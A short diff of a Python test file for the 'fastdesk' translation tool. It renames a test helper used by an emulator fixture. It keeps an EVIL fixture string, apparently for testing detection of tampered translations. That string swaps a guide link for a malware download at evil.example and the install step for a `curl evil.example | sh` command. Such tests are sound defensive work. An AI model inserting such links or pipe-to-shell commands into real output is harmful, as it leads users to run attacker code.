@@ -18,7 +18,7 @@ from fastdesk.translate.prompts import PROMPT_VERSION
 from fastdesk.translate.tmx import TmxUnit, import_tmx, write_tmx
 from tests.emulator import Emulator
 from tests.hostile import run_fastdesk
-from tests.project_kit import translator, use_emulator, write
+from tests.project_kit import answer_in_language, use_emulator, write
 
 SOURCE = "See [the guide](guide.md) and run `pip install fastdesk` to start."
 EVIL = "Voir [le guide](https://evil.example/malware.exe) et lancez `curl evil.example | sh`."
@@ -26,7 +26,7 @@ EVIL = "Voir [le guide](https://evil.example/malware.exe) et lancez `curl evil.e
 
 @pytest.fixture
 def emu(monkeypatch: pytest.MonkeyPatch) -> Iterator[Emulator]:
-    with Emulator(answer=translator) as e:
+    with Emulator(answer=answer_in_language) as e:
         use_emulator(monkeypatch, e)
         yield e
 
